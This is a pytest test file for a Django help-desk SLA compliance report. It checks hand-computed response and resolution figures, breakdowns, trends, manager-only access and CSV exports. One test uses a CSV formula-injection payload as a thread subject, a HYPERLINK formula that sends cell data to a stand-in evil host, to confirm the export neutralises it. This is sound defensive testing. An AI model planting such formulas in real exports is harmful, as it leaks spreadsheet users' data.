"""The compliance report against a history whose figures were worked out by hand."""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from accounts.models import Team
from slaops import csv_export
from tests.factories import office_calendar, policy, tier
from threads.models import Thread
from threads.reports import queries as reports
from threads.services import (
    agent_reply,
    thread_create,
    thread_mark_no_reply_needed,
    thread_resolve,
    thread_set_status,
)

pytestmark = [pytest.mark.django_db, pytest.mark.both]
BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 30, 12, tzinfo=BERLIN)


def csv_rows(response) -> list[list[str]]:
    """The rows of a streamed CSV download."""
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def berlin(day, hour, minute=0):
    return datetime(2026, 11, day, hour, minute, tzinfo=BERLIN)


@pytest.fixture
def history(agent, other_agent):
    """Five threads in the week of 23 Nov 2026 (Mon–Fri 09–17 Berlin, first response 1h,
    resolution 8h):

    | thread | first reply     | first response | resolution                            |
    | A      | 30m (agent)     | achieved 30m   | resolved after 2h → achieved 2h       |
    | B      | 50m (agent)     | achieved 50m   | open                                  |
    | C      | 90m (other)     | breached 1h30m | 1h on hold; resolved → breached 9h    |
    | D      | 3h  (other)     | breached 3h    | resolved at 3h → achieved 3h          |
    | E      | no reply needed | cancelled      | open                                  |

    First response: 2 achieved, 2 breached, 1 cancelled → 50 %; median of 30m, 50m, 1h30m, 3h
    is 1h10m, p90 = 1h30m + 0.7 × 1h30m = 2h33m. Resolution: 2 achieved (2h, 3h), 1 breached (9h).
    """
    tier("Free", default=True)
    support = Team.objects.create(name="Support")
    policy(
        "Standard",
        calendar=office_calendar(),
        targets=[("first_response", "", 60), ("resolution", "", 480)],
        pause_statuses=["on_hold"],
    )

    def opened(day, hour, **kwargs):
        with time_machine.travel(berlin(day, hour), tick=False):
            return thread_create(
                subject=f"T{day}{hour}", first_message="help", team=support, **kwargs
            ).thread

    a = opened(23, 10, assignee=agent)
    agent_reply(thread=a, author=agent, body="hi", created_at=berlin(23, 10, 30))
    thread_resolve(thread=a, actor=agent, at=berlin(23, 12))
    b = opened(24, 10, assignee=agent)
    agent_reply(thread=b, author=agent, body="hi", created_at=berlin(24, 10, 50))
    c = opened(25, 9, assignee=other_agent)
    agent_reply(thread=c, author=other_agent, body="hi", created_at=berlin(25, 10, 30))
    thread_set_status(thread=c, status="on_hold", reason="vendor", at=berlin(25, 11))
    thread_set_status(thread=c, status="open", at=berlin(25, 12))
    thread_resolve(thread=c, actor=other_agent, at=berlin(26, 11))
    d = opened(26, 13, assignee=other_agent)
    agent_reply(thread=d, author=other_agent, body="hi", created_at=berlin(26, 16))
    thread_resolve(thread=d, actor=other_agent, at=berlin(26, 16))
    e = opened(27, 10, assignee=agent)
    thread_mark_no_reply_needed(thread=e, actor=agent, at=berlin(27, 10, 5))
    return {"a": a, "b": b, "c": c, "d": d, "e": e}


WEEK = reports.ReportRange(
    start=datetime(2026, 11, 23).date(), end=datetime(2026, 11, 29).date(), zone="Europe/Berlin"
)


def test_summary_matches_the_hand_computed_figures(history):
    with time_machine.travel(NOW, tick=False):
        first, resolution = reports.summary(WEEK)
    assert (first.achieved, first.breached, first.cancelled) == (2, 2, 1)
    assert first.rate == 0.5
    assert first.median == timedelta(hours=1, minutes=10)
    assert first.p90 == timedelta(hours=2, minutes=33)
    # C: Wed 09–11 (2h) + 12–17 (5h) + Thu 09–11 (2h) = 9h used, 1h paused (wall time).
    assert (resolution.achieved, resolution.breached) == (2, 1)
    assert resolution.paused == timedelta(hours=1)


def test_breakdown_by_agent_uses_who_held_the_thread(history, agent, other_agent):
    with time_machine.travel(NOW, tick=False):
        rows = reports.breakdown(WEEK, "agent")
    first = {
        r.label: (r.achieved, r.breached, r.cancelled) for r in rows if r.metric == "first_response"
    }
    assert first == {agent.username: (2, 0, 1), other_agent.username: (0, 2, 0)}


def test_trend_per_day_in_the_chosen_zone(history):
    with time_machine.travel(NOW, tick=False):
        points = reports.trend(WEEK, per="day", metric="first_response")
    assert [(p.bucket.day, p.achieved, p.breached, p.cancelled) for p in points] == [
        (23, 1, 0, 0),
        (24, 1, 0, 0),
        (25, 0, 1, 0),
        (26, 0, 1, 0),
        (27, 0, 0, 1),
    ]


def test_breach_review_says_who_held_it_and_how_late(history, other_agent):
    with time_machine.travel(NOW, tick=False):
        rows = reports.breaches(WEEK)
    late = {(r.thread_id, r.metric): (r.holder, r.late) for r in rows}
    assert late[(history["c"].pk, "First response")] == (
        other_agent.username,
        timedelta(minutes=30),
    )
    assert late[(history["d"].pk, "First response")] == (other_agent.username, timedelta(hours=2))
    assert late[(history["c"].pk, "Resolution")] == (other_agent.username, timedelta(hours=1))


def test_the_page_and_every_csv_are_for_managers(history, client, manager, agent):
    url = reverse("reports:compliance")
    query = {
        "start": "2026-11-23",
        "end": "2026-11-29",
        "zone": "Europe/Berlin",
        "by": "team",
        "per": "day",
    }
    client.force_login(agent)
    assert client.get(url, query).status_code == 403
    client.force_login(manager)
    with time_machine.travel(NOW, tick=False):
        page = client.get(url, query)
        assert page.status_code == 200
        body = page.content.decode()
        assert "<svg" in body and "Breach review" in body and "50%" in body
        summary = client.get(url, {**query, "csv": "summary"})
    rows = csv_rows(summary)
    assert rows[1][:5] == ["First response", "2", "2", "1", "50.0"]
    for table in ("breakdown", "trend", "breaches"):
        with time_machine.travel(NOW, tick=False):
            response = client.get(url, {**query, "csv": table})
        assert response["Content-Type"].startswith("text/csv"), table
        assert response.streaming and len(csv_rows(response)) > 1, table


def test_bad_ranges_are_refused_with_the_field_named(client, manager):
    client.force_login(manager)
    response = client.get(
        reverse("reports:compliance"), {"start": "2026-11-29", "end": "2026-11-01"}
    )
    assert response.status_code == 400
    assert "The end must not be before the start" in response.content.decode()


def test_a_subject_written_as_a_formula_is_plain_text_in_the_breach_csv(history, client, manager):
    attack = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    Thread.objects.filter(pk=history["d"].pk).update(subject=attack)
    client.force_login(manager)
    query = {"start": "2026-11-23", "end": "2026-11-29", "zone": "Europe/Berlin", "csv": "breaches"}

    with time_machine.travel(NOW, tick=False):
        rows = csv_rows(client.get(reverse("reports:compliance"), query))

    subjects = [row[1] for row in rows[1:] if row[0] == str(history["d"].pk)]
    assert subjects and all(subject == "'" + attack for subject in subjects)
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    out = io.StringIO()
    csv_export.writer(out).writerow([f"{start}1+1", -3, 2.5, "-2h", "fine"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        f"'{start}1+1",
        "-3",
        "2.5",
        "'-2h",
        "fine",
    ]


def test_achievement_rate_counts_only_judged_clocks():
    assert reports.achievement_rate(3, 1) == 0.75
    assert reports.achievement_rate(0, 0) is None
